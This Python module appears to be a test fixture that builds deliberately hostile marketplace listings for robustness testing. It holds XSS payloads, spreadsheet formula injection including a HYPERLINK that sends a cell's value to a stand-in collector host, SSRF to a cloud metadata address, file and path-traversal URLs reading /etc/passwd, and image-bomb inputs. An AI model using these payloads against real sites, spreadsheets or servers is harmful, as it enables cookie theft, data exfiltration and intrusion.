"""Legitimate-looking listings that attack whoever reads them."""

from collections.abc import Iterator
from dataclasses import replace
from random import Random

from demo.offers import Draft, Shot, Truth
from demo.wording import draft, products, title
from domain.listing import Seller

_TITLES = (
    ("lanterns", "hostile_script_title", "<script>alert('lantern')</script>{}"),
    ("guild", "hostile_script_title", "{}<svg/onload=alert(1)>"),
    ("riverside", "hostile_formula_title", '=HYPERLINK("http://collector.invalid/?x="&A1,"{}")'),
    ("guild", "hostile_formula_title", "@SUM(1+9)*cmd|' /C calc'!A0 {}"),
    ("lanterns", "hostile_bidi_title", "\u202e{}\u202c \u2066gpj.exe\u2069"),
    ("riverside", "hostile_zero_width_title", "\u200b\ufeff{}\u200d\u200d\u2060"),
)
_PICTURES = (
    ("lanterns", "hostile_javascript_picture", "javascript:alert(document.cookie)"),
    ("lanterns", "hostile_metadata_redirect", "/out/metadata.jpg"),
    ("lanterns", "hostile_private_redirect", "/out/private.jpg"),
    ("lanterns", "hostile_metadata_picture", "http://169.254.169.254/latest/meta-data/photo.jpg"),
    ("riverside", "hostile_picture_loop", "/loop/1"),
    ("guild", "hostile_file_picture", "file:///etc/passwd"),
    ("guild", "hostile_traversal_picture", "../../../../../../etc/passwd"),
)
_SHOTS = (
    ("lanterns", "hostile_broken_picture", "broken"),
    ("riverside", "hostile_broken_picture", "broken"),
    ("riverside", "hostile_bomb_picture", "bomb"),
)


def hostile(rng: Random) -> Iterator[Draft]:
    """One listing for each attack; all are clean as far as rights go."""
    for source, kind, form in _TITLES:
        made = _ordinary(source, kind, rng)
        yield replace(made, title=form.format(made.title))
    for source, kind, address in _PICTURES:
        yield replace(_ordinary(source, kind, rng), addresses=(address,))
    for source, kind, act in _SHOTS:
        made = _ordinary(source, kind, rng)
        yield replace(made, shots=(*made.shots[:1], Shot(made.shots[0].shape, f"{kind} {source}", act)))
    for source in ("lanterns", "riverside"):
        seller = Seller("X66", '"><img src=x onerror=alert(1)>优选店', "灯桥市 旧港区")
        yield replace(_ordinary(source, "hostile_seller_name", rng), seller=seller)
    yield replace(_ordinary("lanterns", "hostile_slow_page", rng), slow=True)


def _ordinary(source: str, kind: str, rng: Random) -> Draft:
    goods = rng.choice(products())
    made = draft(goods, f"{kind} {source}", rng, title(goods, rng), "无品牌", Truth("clean", kind))
    return replace(made, source=source)
